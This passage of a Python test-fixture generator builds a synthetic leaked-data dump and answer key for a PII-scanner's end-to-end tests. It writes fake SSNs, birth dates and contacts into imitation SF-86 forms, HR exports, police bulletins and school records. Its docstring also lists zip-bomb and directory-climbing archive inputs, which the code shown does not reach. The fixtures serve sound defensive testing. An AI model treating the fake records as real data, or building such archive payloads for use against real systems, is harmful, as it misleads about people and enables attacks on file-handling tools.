#!/usr/bin/env python3
"""Nineteenth hostile dump with an answer key (tests/e2e/test_hostile18.py).

make_hostile18.py OUT -> OUT/dump/... and OUT/key.json

Same key format as make_hostile3.py (its docstring lists the expect
fields) and make_hostile8.py's checker (entities_only, exact); the shared
helpers are tests/gen/hostile_common.py. This one lays out what leaks when
a GOVERNMENT agency's HR / background-check system (OPM 2015: SF-86
questionnaires), a police fusion centre (BlueLeaks 2020), a school
district's student information system (PowerSchool 2024) or a voter roll
is dumped, each file written by hand from the format's documented layout
with the standard library, with fake PII:

- background investigations: an e-QIP-style SF-86 XML export (applicant,
  relatives, references), the fillable SF-86 PDF (AcroForm fields named as
  the OPM form names them, form1[0].Sections1-6[0].SSN[0]), the same form
  as an XFA data packet (the datasets stream of /AcroForm /XFA), its data
  exported alone as FDF and XFDF, a form
  flattened to text and a scanned form with an invisible text layer (text
  render mode 3), a blank form whose labels carry no value (a decoy), an
  SF-50 personnel action printed to text (a row of values under a row of
  numbered labels);
- HR: a PeopleSoft PERSONAL_DATA CSV (EMPLID decoys beside NATIONAL_ID) and
  an Integration Broker PERSON_BASIC_SYNC message (PERS_NID rows), a
  Workday Get_Workers response (National_ID_Data with ID and ID_Type USA-SSN),
  an SAP HR PA0002 extract (PERNR, GBDAT, PERID), a fixed-width payroll
  register, an LDAP/Active Directory LDIF export (employeeID, a base64
  description), an HR mailbox .pst, a password-protected salary workbook;
- background-check reports: an HTML report (tables of SSN, DOB, driver's
  licence) with court case numbers that must stay clean;
- fusion centre: a suspicious activity report DOCX and RTF marked LAW
  ENFORCEMENT SENSITIVE / FOUO, an ODT bulletin with (U//FOUO) portion marks,
  a CUI memo, a BlueLeaks-style CSV of a web form's table (SubjectSSN,
  SubjectDOB ...), rosters of badge and incident numbers (decoys);
- schools: a PowerSchool-style students CSV (Student_Number and
  State_StudentNumber that look like SSNs but are not labelled so), a
  student JSON export with guardians, a fillable enrolment PDF (fields named
  SocialSecurityNumber and Student.DateOfBirth[0], one named only by its
  tool tip), a saved admin page whose values sit in input elements (one
  hidden);
- voter rolls: a Florida-style tab-separated extract without a header (the
  documented column order only), a pipe-delimited roll with a header and
  last-four decoys;
- hostile touches: a cut zip of HR exports, a zip bomb beside a real
  member, a zip whose member names climb, an SF-86 XML named .pdf.

"gap": true marks what a careful tool finds and leaksift does not (the
report that came with this file says why); a gap that starts to hold fails
until its mark is dropped. "arguable": true marks an expectation a careful
responder could argue either way.

Python stdlib only; deterministic.
"""
import base64
import io
import json
import os
import sys
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_common as hc  # noqa: E402
import gen_pdf  # noqa: E402
import gen_pst  # noqa: E402
import gen_agile  # noqa: E402
import make_hostile11  # noqa: E402

FP_KEY = b"hostile18 fingerprint key, test only"
D = hc.Dump(FP_KEY, domain="agency-mail.test", ssn_base=600)
key, put, person, pl = D.key, D.put, D.person, D.pl
check = hc.check
OPM = "opm-eqip"
FUSION = "fusion-center"
SIS = "district-sis"
VOTE = "county-elections"
HR = "agency-hr"


def us(p):
    """P's birth date as MM/DD/YYYY (the US forms' layout)."""
    y, m, d = p["dob"].split("-")
    return "%s/%s/%s" % (m, d, y)


def dk(p):
    """The key's value for P's birth date written as us(P) does: the date
    (YYYY-MM-DD) when the written form says which number is the day (a day
    above 12, or day and month equal), else as written (05/01/1978 reads as
    either order; leaksift fingerprints it as written, docs/rules.md)."""
    y, m, d = p["dob"].split("-")
    return p["dob"] if int(d) > 12 or d == m else us(p)


def dl(p):
    """A driver's licence number (Florida's letter and 12 digits)."""
    return "%s%03d-%03d-%02d-%03d-0" % (p["last"][0], 100 + p["n"], 420 + p["n"], 50 + p["n"] % 40, 100 + 7 * p["n"])


def pdf(lines, render=None):
    """A one-page PDF showing LINES (Helvetica, one Tj a line); RENDER: a
    text render mode (3: invisible, a scanner's OCR layer)."""
    w = gen_pdf.Writer()
    tr = b"%d Tr " % render if render is not None else b""
    c = b"BT /F1 10 Tf 14 TL " + tr + b"50 760 Td " + b" T* ".join(gen_pdf.lit(x) + b" Tj" for x in lines) + b" ET\n"
    return w.classic(gen_pdf.simple_doc(w, [c]))


def odt(paras):
    """A minimal OpenDocument text package: mimetype first and stored."""
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"')
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content %s><office:body><office:text>%s'
               '</office:text></office:body></office:document-content>'
               % (ns, "".join("<text:p>%s</text:p>" % p for p in paras)))
    man = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
           'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
           'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
           'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z0:
        z = hc.FixedZip(z0)
        z.writestr("mimetype", b"application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", man.encode())
        z.writestr("content.xml", content.encode())
    return b.getvalue()


# ---------------------------------------------------------------- OPM / SF-86
def sf86_xml(a, rel, ref):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!-- e-QIP export: SF86 (Rev. 12/2010) OMB No. 3206-0005 -->\n'
            '<Questionnaire formType="SF86" formVersion="2010-12" caseNumber="1410-22-004187">\n'
            ' <Section1><Name><Last>%s</Last><First>%s</First><Middle>Q</Middle></Name></Section1>\n'
            ' <Section2><DateOfBirth>%s</DateOfBirth></Section2>\n'
            ' <Section3><PlaceOfBirth><City>Dayton</City><State>OH</State></PlaceOfBirth></Section3>\n'
            ' <Section4><SSN>%s</SSN></Section4>\n'
            ' <Section7><Email>%s</Email><HomeTelephone>%s</HomeTelephone></Section7>\n'
            ' <Section18><Relative type="Mother"><Name><Last>%s</Last><First>%s</First></Name>'
            '<DateOfBirth>%s</DateOfBirth><SSN>%s</SSN></Relative></Section18>\n'
            ' <Section5><OtherNames/></Section5>\n'
            ' <Investigation><RequestID>%d</RequestID><SON>4711</SON><SOI>OP00</SOI></Investigation>\n'
            '</Questionnaire>\n'
            % (a["last"], a["first"], a["dob"], a["ssn9"], a["email"], a["phone"],
               rel["last"], rel["first"], rel["dob"], rel["ssn9"], ref)).encode()


def sf86_acroform(a):
    """The fillable SF-86 as Acrobat saves it: field names form1[0]...,
    values in /V, no appearance streams, a page that only shows labels."""
    w = gen_pdf.Writer()
    N = gen_pdf.Name
    vals = [("form1[0].Sections1-6[0].TextField11[0]", a["last"]),
            ("form1[0].Sections1-6[0].TextField11[1]", a["first"]),
            ("form1[0].Sections1-6[0].From_Datefield_Name_2[0]", us(a)),
            ("form1[0].Sections1-6[0].SSN[0]", a["ssn9"]),
            ("form1[0].Section7[0].p3-t68[0]", a["email"]),
            ("form1[0].Section7[0].p3-t68[1]", a["phone"])]
    fields = [w.add({"Type": N("Annot"), "Subtype": N("Widget"), "FT": N("Tx"), "T": t, "V": v,
                     "Rect": [72, 600 - 20 * i, 372, 616 - 20 * i]}) for i, (t, v) in enumerate(vals)]
    c = (b"BT /F1 9 Tf 12 TL 50 760 Td (Standard Form 86  Revised December 2010  OMB No. 3206-0005) Tj "
         b"T* (QUESTIONNAIRE FOR NATIONAL SECURITY POSITIONS) Tj T* (Section 4 - U.S. Social Security Number) Tj ET\n")
    return w.classic(gen_pdf.simple_doc(w, [c], annots=fields, extra_catalog={"AcroForm": {"Fields": fields}}))


def enrollment_form(st, g):
    """A district's fillable enrolment PDF as a parent saved it: fields
    named by their meaning (SocialSecurityNumber, Student.DateOfBirth[0]),
    one named Text7 whose tool tip (/TU, the name a reader shows) says what
    it holds."""
    w = gen_pdf.Writer()
    N = gen_pdf.Name
    vals = [("Student.LastName[0]", st["last"], None), ("Student.DateOfBirth[0]", us(st), None),
            ("SocialSecurityNumber", st["ssn9"], None), ("Guardian.Email[0]", g["email"], None),
            ("Text7", g["ssn9"], "Parent/Guardian Social Security Number")]
    fields = []
    for i, (t, v, tu) in enumerate(vals):
        f = {"Type": N("Annot"), "Subtype": N("Widget"), "FT": N("Tx"), "T": t, "V": v,
             "Rect": [72, 600 - 20 * i, 372, 616 - 20 * i]}
        if tu:
            f["TU"] = tu
        fields.append(w.add(f))
    c = b"BT /F1 10 Tf 50 760 Td (Riverside Unified School District - New Student Enrollment 2014-2015) Tj ET\n"
    return w.classic(gen_pdf.simple_doc(w, [c], annots=fields, extra_catalog={"AcroForm": {"Fields": fields}}))


def sf86_xfa(a):
    """An XFA form: /AcroForm /XFA names the packets; the datasets packet
    holds what was typed (the page itself is a 'please wait' placeholder)."""
    w = gen_pdf.Writer()
    N = gen_pdf.Name
    tmpl = (b'<template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform name="form1">'
            b'<field name="SSN"/><field name="DOB"/><field name="Email"/></subform></template>')
    data = ('<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1>'
            '<Sections1-6><ApplicantName>%s %s</ApplicantName><SSN>%s</SSN><DOB>%s</DOB></Sections1-6>'
            '<Section7><EmailAddress>%s</EmailAddress></Section7></form1></xfa:data></xfa:datasets>'
            % (a["first"], a["last"], a["ssn9"], us(a), a["email"])).encode()
    t_ref = w.add(gen_pdf.Stream({"Filter": N("FlateDecode")}, zlib.compress(tmpl)))
    d_ref = w.add(gen_pdf.Stream({"Filter": N("FlateDecode")}, zlib.compress(data)))
    c = b"BT /F1 12 Tf 72 720 Td (Please wait... If this message is not eventually replaced, upgrade your reader.) Tj ET\n"
    return w.classic(gen_pdf.simple_doc(w, [c], extra_catalog={
        "AcroForm": {"Fields": [], "XFA": ["template", t_ref, "datasets", d_ref]}, "NeedsRendering": True}))


def opm_cases():
    a, m = person(), person()
    r = put(OPM + "/exports/2014-11/SF86_%d.xml" % (880000 + a["n"]), sf86_xml(a, m, 880000 + a["n"]))
    key("sf86_xml", r, [], exact={"ssn": [a["ssn9"], m["ssn9"]], "dob": [a["dob"], m["dob"]], "email": [a["email"]]},
        verdict="sensitive")
    key("sf86_xml_phone", r, [], exact={"phone": [a["phone10"]]})
    f = person()
    r = put(OPM + "/forms/submitted/sf86_%s.pdf" % f["last"].lower(), sf86_acroform(f))
    key("sf86_acroform", r, [], exact={"ssn": [f["ssn9"]], "email": [f["email"]]}, verdict="sensitive")
    # form1[0].Sections1-6[0].From_Datefield_Name_2[0] is the birth date field of the OPM form: only its
    # name's place in the form says so
    key("sf86_acroform_dob", r, [], planted={"dob": [dk(f)]}, arguable=True)
    x = person()
    r = put(OPM + "/forms/submitted/sf86_xfa_%d.pdf" % x["n"], sf86_xfa(x))
    key("sf86_xfa", r, None, planted_under={"ssn": [x["ssn9"]], "email": [x["email"]], "dob": [dk(x)]})
    key("sf86_xfa_root", r, [], verdict="sensitive")
    # the form's data alone, as Acrobat exports it: FDF (a PDF-syntax dictionary of /T and /V pairs) and
    # XFDF (its XML form, fields nested by the parts of their names)
    fd = person()
    fdf = ("%%FDF-1.2\n%%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /FDF << /Fields [\n"
           "<< /T (form1[0].Sections1-6[0].TextField11[0]) /V (%s) >>\n"
           "<< /T (form1[0].Sections1-6[0].SSN[0]) /V (%s) >>\n"
           "<< /T (form1[0].Section2[0].DateOfBirth[0]) /V (%s) >>\n"
           "<< /T (form1[0].Section7[0].Email[0]) /V (%s) >>\n"
           "] /F (SF86.pdf) /ID [<7a0631678ed475f0898815f0a818cfa1><bef7724317b311718e8675b677ef9b4e>] >> >>\n"
           "endobj\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n" % (fd["last"], fd["ssn9"], us(fd), fd["email"]))
    r = put(OPM + "/forms/data/sf86_%d.fdf" % fd["n"], fdf.encode("latin-1"))
    key("sf86_fdf", r, [], exact={"ssn": [fd["ssn9"]], "dob": [dk(fd)], "email": [fd["email"]]}, verdict="sensitive")
    xd = person()
    xfdf = ('<?xml version="1.0" encoding="UTF-8"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/" xml:space="preserve">\n'
            '<f href="SF86.pdf"/>\n<fields>\n<field name="form1[0]"><field name="Sections1-6[0]">'
            '<field name="SSN[0]"><value>%s</value></field>\n<field name="DOB[0]"><value>%s</value></field>'
            '</field>\n<field name="Section7[0]"><field name="Email[0]"><value>%s</value></field></field></field>\n'
            '</fields>\n<ids original="7A0631678ED475F0898815F0A818CFA1" modified="BEF7724317B311718E8675B677EF9B4E"/>'
            '\n</xfdf>\n' % (xd["ssn9"], us(xd), xd["email"]))
    r = put(OPM + "/forms/data/sf86_%d.xfdf" % xd["n"], xfdf.encode())
    key("sf86_xfdf", r, [], exact={"ssn": [xd["ssn9"]], "dob": [dk(xd)], "email": [xd["email"]]}, verdict="sensitive")
    fl = person()
    r = put(OPM + "/forms/flattened/sf86_print_%d.pdf" % fl["n"],
            pdf(["QUESTIONNAIRE FOR NATIONAL SECURITY POSITIONS  SF 86",
                 "Section 1  Full name: %s, %s" % (fl["last"], fl["first"]),
                 "Section 2  Date of birth: %s" % us(fl), "Section 4  U.S. Social Security Number: %s" % fl["ssn"],
                 "Section 7  E-mail address: %s" % fl["email"], "Certification: I certify that my statements are true."]))
    key("sf86_flattened", r, [], exact={"ssn": [fl["ssn9"]], "dob": [dk(fl)], "email": [fl["email"]]},
        verdict="sensitive")
    sc = person()
    r = put(OPM + "/forms/scanned/SCAN_0042.pdf",
            pdf(["SF-86 Section 4  Social Security Number %s" % sc["ssn"], "Date of Birth %s" % us(sc),
                 "Contact %s" % sc["email"]], render=3))
    key("sf86_scanned_ocr_layer", r, [], exact={"ssn": [sc["ssn9"]], "dob": [dk(sc)], "email": [sc["email"]]},
        verdict="sensitive")
    # a blank form: labels, the form number, OMB number, instructions' example formats: nothing filled in
    r = put(OPM + "/forms/blank/sf86_blank_instructions.txt",
            b"STANDARD FORM 86 (SF-86)  Revised December 2010  OMB No. 3206-0005\n"
            b"Section 2 - Date of Birth (MM/DD/YYYY): ____/____/________\n"
            b"Section 4 - U.S. Social Security Number: ___-__-____\n"
            b"Enter your 9-digit number without dashes. Estimated burden: 150 minutes.\n"
            b"Privacy Act Routine Use 5 U.S.C. 552a(b)(3); Executive Orders 10450, 10865, 12333 and 13467.\n")
    key("sf86_blank_form_clean", r, [], no_findings=True)
    # an SF-50 Notification of Personnel Action printed to text: numbered boxes, each row of labels over a
    # row of values (the value under its label, not after it)
    sf = person()
    sf50 = ("STANDARD FORM 50  Rev. 7/91  U.S. Office of Personnel Management  FPM Supp. 296-33, Subch. 4\n"
            "NOTIFICATION OF PERSONNEL ACTION\n"
            "1. Name (Last, First, Middle)              2. Social Security Number   3. Date of Birth   4. Effective Date\n"
            "%-43s%-28s%-19s%s\n"
            "5-A. Code   5-B. Nature of Action          6-A. Code   6-B. Nature of Action\n"
            "100         CAREER-COND APPT               \n"
            % ("%s, %s Q" % (sf["last"].upper(), sf["first"].upper()), sf["ssn9"], us(sf), "11/30/2014"))
    r = put(OPM + "/ehri/sf50/SF50_%d.txt" % sf["n"], sf50.encode())
    key("sf50_boxes", r, [], exact={"ssn": [sf["ssn9"]]}, verdict="sensitive")
    key("sf50_boxes_dob", r, [], exact={"dob": [dk(sf)]})


# ---------------------------------------------------------------- HR
def hr_cases():
    ps = [person() for _ in range(3)]
    rows = ["EMPLID,NAME,NATIONAL_ID_TYPE,NATIONAL_ID,BIRTHDATE,EMAILID,PHONE,DEPTID,JOBCODE"]
    for i, p in enumerate(ps):
        rows.append("%09d,\"%s,%s\",PR,%s,%s,%s,%s,10%03d,K0%d" % (
            210000000 + 7919 * p["n"], p["last"], p["first"], p["ssn9"], us(p), p["email"], p["phone"], 400 + i, 10 + i))
    r = put(HR + "/peoplesoft/PS_PERSONAL_DATA_20141124.csv", ("\r\n".join(rows) + "\r\n").encode())
    # NATIONAL_ID with type PR (PeopleSoft's US SSN type); EMPLID is 9 digits in the SSN ranges and not one
    key("peoplesoft_national_id", r, [], exact={"ssn": [p["ssn9"] for p in ps]}, gap=True)
    key("peoplesoft_rest", r, [], exact={"dob": [dk(p) for p in ps], "email": [p["email"] for p in ps]})
    wd = [person() for _ in range(2)]
    wx = ('<?xml version="1.0" encoding="UTF-8"?>\n<env:Envelope xmlns:env="http://schemas.xmlsoap.org/soap/envelope/">'
          '<env:Body><wd:Get_Workers_Response xmlns:wd="urn:com.workday/bsvc" wd:version="v23.1"><wd:Response_Data>\n'
          + "".join('<wd:Worker><wd:Worker_Data><wd:Worker_ID>%d</wd:Worker_ID><wd:Worker_Reference>'
                    '<wd:ID wd:type="Employee_ID">%d</wd:ID></wd:Worker_Reference><wd:Personal_Data>'
                    '<wd:Name_Data><wd:Legal_Name_Data><wd:Name_Detail_Data wd:Formatted_Name="%s">'
                    '<wd:First_Name>%s</wd:First_Name><wd:Last_Name>%s</wd:Last_Name></wd:Name_Detail_Data>'
                    '</wd:Legal_Name_Data></wd:Name_Data>\n<wd:Birth_Date>%s</wd:Birth_Date>\n'
                    '<wd:Identification_Data><wd:National_ID><wd:National_ID_Data><wd:ID>%s</wd:ID>'
                    '<wd:ID_Type_Reference><wd:ID wd:type="National_ID_Type_Code">USA-SSN</wd:ID>'
                    '</wd:ID_Type_Reference><wd:Country_Reference><wd:ID wd:type="ISO_3166-1_Alpha-3_Code">USA'
                    '</wd:ID></wd:Country_Reference></wd:National_ID_Data></wd:National_ID></wd:Identification_Data>\n'
                    '<wd:Contact_Data><wd:Email_Address_Data><wd:Email_Address>%s</wd:Email_Address>'
                    '</wd:Email_Address_Data></wd:Contact_Data></wd:Personal_Data></wd:Worker_Data></wd:Worker>\n'
                    % (21000 + w["n"], 210000000 + 7919 * w["n"], w["name"], w["first"], w["last"], w["dob"],
                       w["ssn9"], w["email"]) for w in wd)
          + '</wd:Response_Data></wd:Get_Workers_Response></env:Body></env:Envelope>\n')
    r = put(HR + "/workday/Get_Workers_20141124.xml", wx.encode())
    key("workday_email_dob", r, [], exact={"email": [w["email"] for w in wd], "dob": [w["dob"] for w in wd]},
        verdict="sensitive")
    # the SSN is <wd:ID> before the ID type that says USA-SSN
    key("workday_national_id", r, [], exact={"ssn": [w["ssn9"] for w in wd]})
    # the same people's records as PeopleSoft's Integration Broker publishes them (PERSON_BASIC_SYNC): PERS_NID
    # rows, NATIONAL_ID_TYPE PR (the US SSN) then NATIONAL_ID; an employee ID and a badge number of nine digits
    # beside them are no SSN
    pb = [person() for _ in range(2)]
    ib = ('<?xml version="1.0"?>\n<PERSON_BASIC_SYNC><FieldTypes/><MsgData><Transaction>\n' + "".join(
        '<PERSON class="R"><EMPLID IsChanged="Y">%09d</EMPLID><BIRTHDATE>%s</BIRTHDATE>\n'
        '<PERS_NID class="R"><EMPLID>%09d</EMPLID><COUNTRY>USA</COUNTRY><NATIONAL_ID_TYPE>PR</NATIONAL_ID_TYPE>'
        '<NATIONAL_ID IsChanged="Y">%s</NATIONAL_ID><SSN_KEY_FRA/><PRIMARY_NID>Y</PRIMARY_NID></PERS_NID>\n'
        '<BADGE_NBR>%09d</BADGE_NBR><EMAIL_ADDR>%s</EMAIL_ADDR></PERSON>\n'
        % (210000000 + 7919 * p["n"], p["dob"], 210000000 + 7919 * p["n"], p["ssn9"], 620000000 + 31 * p["n"],
           p["email"]) for p in pb) + '</Transaction></MsgData></PERSON_BASIC_SYNC>\n')
    r = put(HR + "/peoplesoft/ib/PERSON_BASIC_SYNC_0042.xml", ib.encode())
    key("peoplesoft_ib_xml", r, [], exact={"ssn": [p["ssn9"] for p in pb], "dob": [p["dob"] for p in pb],
                                          "email": [p["email"] for p in pb]}, verdict="sensitive")
    sp = [person() for _ in range(3)]
    # SAP HR infotype 0002 (Personal Data) as SE16 downloads it: tab-separated, GBDAT YYYYMMDD, PERID = SSN (US)
    sap = "MANDT\tPERNR\tENDDA\tBEGDA\tNACHN\tVORNA\tGBDAT\tGBORT\tPERID\tNATIO\n" + "".join(
        "100\t%08d\t99991231\t20100101\t%s\t%s\t%s\tDAYTON\t%s\tUS\n"
        % (50000000 + s["n"], s["last"], s["first"], s["dob"].replace("-", ""), s["ssn9"]) for s in sp)
    r = put(HR + "/sap/PA0002_extract.txt", sap.encode())
    # PERID is the SSN for a US employee (NATIO US): only SAP's data dictionary says so
    key("sap_pa0002_perid", r, [], exact={"ssn": [s["ssn9"] for s in sp]}, verdict="sensitive", gap=True)
    key("sap_pa0002_gbdat", r, [], planted={"dob": [s["dob"] for s in sp]}, arguable=True)
    pr = [person() for _ in range(3)]
    reg = ("AGENCY PAYROLL REGISTER           PAY PERIOD 23   PAY DATE 11/28/2014          PAGE 0001\n"
           "EMP-NO  SSN        EMPLOYEE NAME             GRADE  GROSS      FED-TAX   NET\n" + "".join(
               "%06d  %s  %-25s GS-%02d  %9.2f  %8.2f  %9.2f\n" % (
                   700000 + p["n"], p["ssn9"], p["last"].upper() + ", " + p["first"].upper(), 9 + p["n"] % 5,
                   3100.0 + 10 * p["n"], 410.5, 2400.0 + 10 * p["n"]) for p in pr)
           + "TOTAL EMPLOYEES 3\n")
    r = put(HR + "/payroll/REG_PP23_2014.prn", reg.encode())
    key("payroll_register_ssn", r, [], exact={"ssn": [p["ssn9"] for p in pr]}, verdict="sensitive")
    la = [person() for _ in range(2)]
    ldif = "version: 1\n\n"
    for i, p in enumerate(la):
        ldif += ("dn: CN=%s,OU=Staff,OU=HR,DC=agency,DC=test\nobjectClass: user\ncn: %s\nsn: %s\ngivenName: %s\n"
                 "employeeID: %d\nmail: %s\ntelephoneNumber: %s\n"
                 % (p["name"], p["name"], p["last"], p["first"], 304000000 + 17 * p["n"], p["email"], p["phone"]))
        ldif += "description:: %s\n\n" % base64.b64encode(
            ("Onboarding: SSN %s verified, badge pending" % p["ssn"]).encode()).decode()
    r = put(HR + "/ad/staff_export.ldif", ldif.encode())
    key("ldif_mail", r, [], exact={"email": [p["email"] for p in la], "ssn": [p["ssn9"] for p in la]},
        verdict="sensitive")
    key("ldif_phone", r, [], exact={"phone": [p["phone10"] for p in la]})
    m1, m2 = person(), person()
    spec = {"folders": [{"name": "Inbox", "messages": [
        {"subject": "New hire paperwork - %s" % m1["name"], "sender_name": "Onboarding", "sender_email":
         "onboarding@agency.test", "to": [("HR Specialist", "hr.specialist@agency.test")],
         "body": "Please enter the I-9 for %s.\nSSN: %s\nDOB: %s\nPersonal e-mail %s\n"
                 % (m1["name"], m1["ssn"], us(m1), m1["email"])},
        {"subject": "Garnishment order", "sender_name": "Payroll", "sender_email": "payroll@agency.test",
         "to": [("HR Specialist", "hr.specialist@agency.test")], "body": "See attached.",
         "attachments": [{"name": "garnishment.csv", "mime": "text/plain",
                          "data": ("employee,ssn,email\n%s,%s,%s\n" % (m2["name"], m2["ssn"], m2["email"])).encode()}]}]}]}
    r = put(HR + "/mail/hr.specialist.pst", gen_pst.build_bytes(spec))
    key("hr_pst", r, None, planted_under={"ssn": [m1["ssn9"], m2["ssn9"]], "email": [m1["email"], m2["email"]],
                                          "dob": [dk(m1)]})
    key("hr_pst_root", r, [], verdict="sensitive")
    x = person()
    wb = gen_agile.encrypt(gen_agile.xlsx(x["ssn"]), "Salaries2014!", spin=1000)
    r = put(HR + "/comp/salaries_FY15.xlsx", wb)
    key("salary_xlsx_encrypted", r, [], coverage="none", reasons_all=["encrypted"], alerts_all=["encrypted"])


# ---------------------------------------------------------------- background checks
def bgcheck_cases():
    s = person()
    html = ("<!DOCTYPE html><html><head><title>Background Report #BR-2014-118842</title></head><body>\n"
            "<h1>Employment Screening Report</h1><table class=\"subject\">\n"
            "<tr><th>Subject</th><td>%s</td></tr>\n<tr><th>SSN</th><td>%s</td></tr>\n"
            "<tr><th>Date of Birth</th><td>%s</td></tr>\n<tr><th>Driver License #</th><td>%s (FL)</td></tr>\n"
            "<tr><th>Phone</th><td>%s</td></tr>\n<tr><th>Email</th><td>%s</td></tr></table>\n"
            "<h2>County Criminal Search</h2><table><tr><th>Case Number</th><th>Court</th><th>Disposition</th></tr>\n"
            "<tr><td>2009-CF-012345</td><td>Hillsborough County</td><td>Dismissed</td></tr>\n"
            "<tr><td>13-004512-MM</td><td>Orange County</td><td>Nolle prosequi</td></tr></table>\n"
            "<p>Order 401882291-A (the vendor's order number). Report ID 118842. Searched: 7 counties, 50 states.</p>\n"
            "</body></html>\n" % (s["name"], s["ssn"], us(s), dl(s), s["phone"], s["email"]))
    r = put("screening-vendor/reports/BR-2014-118842.html", html.encode())
    key("bgcheck_html", r, [], exact={"ssn": [s["ssn9"]], "dob": [dk(s)], "email": [s["email"]],
                                      "phone": [s["phone10"]]}, verdict="sensitive")
    key("bgcheck_html_dl", r, [], planted={"drivers_license": [dl(s).replace("-", "")]}, arguable=True)


# ---------------------------------------------------------------- fusion centre
def fusion_cases():
    s = person()
    sar = ["LAW ENFORCEMENT SENSITIVE", "SUSPICIOUS ACTIVITY REPORT  SAR #2014-0417-0093",
           "Reporting officer: Sgt. R. Alvarez, Badge #4471, Unit 12", "Subject: %s" % s["name"],
           "DOB: %s" % us(s), "Phone: %s" % s["phone"], "Email: %s" % s["email"],
           "Narrative: subject photographed the substation fence line for 20 minutes.",
           "LAW ENFORCEMENT SENSITIVE"]
    r = put(FUSION + "/sar/2014/SAR-2014-0417-0093.docx", make_hostile11.docx(sar))
    key("sar_docx", r, None, planted_under={"dob": [dk(s)], "email": [s["email"]], "phone": [s["phone10"]]})
    key("sar_docx_marking", r, [], entities_all=["marking"], verdict="sensitive")
    t = person()
    rtf = ("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0\\fs24 "
           "\\qc\\b UNCLASSIFIED//FOR OFFICIAL USE ONLY\\b0\\par\\ql "
           "Field interview card FI-2014-5512\\par Name: %s\\par SSN: %s\\par Date of birth: %s\\par "
           "Officer badge 3318, vehicle tag 7HXK221\\par}" % (t["name"], t["ssn"], us(t)))
    r = put(FUSION + "/fi-cards/FI-2014-5512.rtf", rtf.encode())
    key("fi_card_rtf", r, [], exact={"ssn": [t["ssn9"]], "dob": [dk(t)]}, entities_all=["marking"],
        verdict="sensitive")
    b = person()
    r = put(FUSION + "/bulletins/officer_safety_2014-47.odt",
            odt(["(U//FOUO) OFFICER SAFETY BULLETIN 2014-47", "(U//FOUO) Person of interest: %s, DOB %s" % (b["name"], us(b)),
                 "(U//LES) Known number %s; known address on file." % b["phone"],
                 "(U) Any agency with information contact the center at 1-800-555-0100."]))
    key("bulletin_odt", r, None, planted_under={"dob": [dk(b)], "phone": [b["phone10"]]})
    key("bulletin_odt_root", r, [], verdict="sensitive")
    c = person()
    r = put(FUSION + "/memos/cui_tasking_memo.txt",
            ("CUI\n\nMEMORANDUM FOR: Watch Officers\nSUBJECT: Tasking 14-0921\nControlled by: Fusion Center Intel Unit\n"
             "CUI Category: LEI\nPOC: %s, %s\n\nPlease deconflict the attached list by 1600.\n\nCUI\n"
             % (c["name"], c["email"])).encode())
    key("cui_memo", r, [], exact={"email": [c["email"]]}, entities_all=["marking"], verdict="sensitive")
    roster = "BADGE,RANK,NAME,UNIT,CALLSIGN\n" + "".join(
        "%d,%s,%s,%d,%s\n" % (4400 + i * 37, ("Ofc", "Sgt", "Lt")[i % 3], hc.NAMES[i], 10 + i, "ADAM-%d" % (12 + i))
        for i in range(8))
    r = put(FUSION + "/admin/watch_roster.csv", roster.encode())
    key("badge_roster_clean", r, [], no_findings=True)
    # BlueLeaks-style export of a fusion centre's web form (one CSV per table): subject columns by name
    bl = [person() for _ in range(3)]
    rows = ["SARID,DateSubmitted,SubjectFirstName,SubjectLastName,SubjectDOB,SubjectSSN,SubjectDLNumber,SubjectPhone,"
            "ReporterEmail,OfficerBadge"]
    for i, p in enumerate(bl):
        rows.append("%d,2014-11-%02d 10:%02d:00,%s,%s,%s,%s,%s,%s,%s,%d" % (
            90210 + i, 10 + i, 5 * i, p["first"], p["last"], p["dob"], p["ssn9"], dl(p), p["phone"], p["email"], 4471 + i))
    r = put(FUSION + "/blueleaks/SARs.csv", ("\r\n".join(rows) + "\r\n").encode())
    key("blueleaks_sars_csv", r, [], exact={"ssn": [p["ssn9"] for p in bl], "dob": [p["dob"] for p in bl],
                                           "email": [p["email"] for p in bl], "phone": [p["phone10"] for p in bl]},
        verdict="sensitive")
    cases = "INCIDENT_NO,REPORTED,OFFENSE,CASE_NO,ORI\n" + "".join(
        "%d,11/%02d/2014,%s,%s,FL029%04d\n" % (201404170 + i * 13, 1 + i, ("BURGLARY", "THEFT", "TRESPASS")[i % 3],
                                                "14-%06d" % (4000 + 211 * i), 13 + i) for i in range(6))
    r = put(FUSION + "/admin/incident_index.csv", cases.encode())
    key("incident_numbers_clean", r, [], no_findings=True)


# ---------------------------------------------------------------- schools
def sis_cases():
    st = [person() for _ in range(4)]
    gd = [person() for _ in range(4)]
    rows = ["Student_Number,State_StudentNumber,LastFirst,DOB,Grade_Level,SSN,Mother,Mother_Email,Father_Home_Phone,"
            "Home_Phone"]
    for i, (s, g) in enumerate(zip(st, gd)):
        rows.append("%d,%d,\"%s, %s\",%s,%d,%s,%s,%s,%s,%s" % (
            204518000 + 11 * s["n"], 7300000000 + 101 * s["n"], s["last"], s["first"], us(s), 3 + i,
            s["ssn"] if i % 2 == 0 else "", g["name"], g["email"], g["phone"], g["phone"]))
    r = put(SIS + "/powerschool/export/students.csv", ("\n".join(rows) + "\n").encode())
    # only the SSN column's values (two rows have one); Student_Number is nine digits in the SSN ranges
